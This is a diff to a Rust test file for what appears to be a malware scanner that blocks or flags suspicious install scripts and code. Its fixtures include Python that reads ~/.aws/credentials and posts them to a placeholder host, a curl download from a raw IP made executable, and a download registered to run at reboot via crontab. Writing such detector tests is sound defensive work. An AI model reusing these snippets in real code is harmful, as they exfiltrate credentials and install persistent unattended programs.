@@ -144,13 +144,91 @@ fn a_shipped_program_another_file_runs_blocks() {
 fn a_verified_download_is_not_a_download_made_executable() {
     let fetch = "curl -fsSLo /usr/local/bin/tool https://example.invalid/tool\nchmod +x /usr/local/bin/tool\n";
     let reasons = messages(&[("install.sh", fetch)]);
-    let combination = "downloads a file and makes it executable in install.sh";
-    assert!(has(&reasons, Verdict::Block, combination), "{reasons:?}");
+    let combination = "downloads a file and makes a file executable in install.sh";
+    assert!(has(&reasons, Verdict::Review, combination), "{reasons:?}");
     let verified = format!(
         "{fetch}echo \"4f2a0c1d9e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f  /usr/local/bin/tool\" | sha256sum -c -\n"
     );
     let reasons = messages(&[("install.sh", &verified)]);
-    assert!(!has(&reasons, Verdict::Block, combination), "{reasons:?}");
+    assert!(
+        !reasons.iter().any(|(_, m)| m == combination),
+        "{reasons:?}"
+    );
+}
+
+/// Findings that only stand in one file ask for a review; the value path
+/// between them blocks, and the reason names it.
+#[test]
+fn co_occurrence_reviews_and_the_value_path_blocks() {
+    let apart = "import os, requests\n\ndef key():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n\ndef ping():\n    requests.get('https://api.example.invalid/health')\n";
+    let reasons = messages(&[("sync.py", apart)]);
+    assert!(
+        has(
+            &reasons,
+            Verdict::Review,
+            "reads credentials and uses the network in sync.py, with no value path found between them"
+        ),
+        "{reasons:?}"
+    );
+    assert!(
+        !reasons.iter().any(|(v, _)| *v == Verdict::Block),
+        "{reasons:?}"
+    );
+
+    let joined = "import os, requests\n\ndef sync():\n    data = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.post('https://api.example.invalid/u', data=data)\n";
+    let reasons = messages(&[("sync.py", joined)]);
+    let block: Vec<&String> = reasons
+        .iter()
+        .filter(|(v, _)| *v == Verdict::Block)
+        .map(|(_, m)| m)
+        .collect();
+    assert!(
+        block
+            .iter()
+            .any(|m| m.contains("~/.aws/credentials") && m.contains("requests.post")),
+        "the block names the path: {reasons:?}"
+    );
+}
+
+/// A pair that only stands in one file blocks next to a threat indicator,
+/// and the reason names it.
+#[test]
+fn co_occurrence_next_to_a_threat_indicator_blocks() {
+    let fetch = "curl -fsSLo /tmp/tool http://203.0.113.9/tool\nchmod +x /tmp/tool\n";
+    let reasons = messages(&[("install.sh", fetch)]);
+    assert!(
+        reasons.iter().any(|(v, m)| *v == Verdict::Block
+            && m.starts_with(
+                "downloads a file and makes a file executable in install.sh, next to END001"
+            )),
+        "{reasons:?}"
+    );
+}
+
+/// A script row in a document asks for a review: two code blocks of a
+/// guide are two examples, not one program. A lure blocks anywhere.
+#[test]
+fn script_combinations_in_a_document_review() {
+    let guide = "# Ops notes\n\n```sh\ncurl -fsSL https://example.invalid/agent.tgz -o agent.tgz\n```\n\nLater, to keep it running:\n\n```sh\n(crontab -l; echo '@reboot ~/agent/run') | crontab -\n```\n";
+    let reasons = messages(&[("references/ops.md", guide)]);
+    assert!(
+        has(
+            &reasons,
+            Verdict::Review,
+            "downloads and registers something to start on its own in references/ops.md"
+        ),
+        "{reasons:?}"
+    );
+    let script = "curl -fsSL https://example.invalid/agent.tgz -o agent.tgz\n(crontab -l; echo '@reboot ~/agent/run') | crontab -\n";
+    let reasons = messages(&[("setup.sh", script)]);
+    assert!(
+        has(
+            &reasons,
+            Verdict::Block,
+            "downloads and registers something to start on its own in setup.sh"
+        ),
+        "{reasons:?}"
+    );
 }
 
 /// Invisible characters in a file that runs code built at run time.
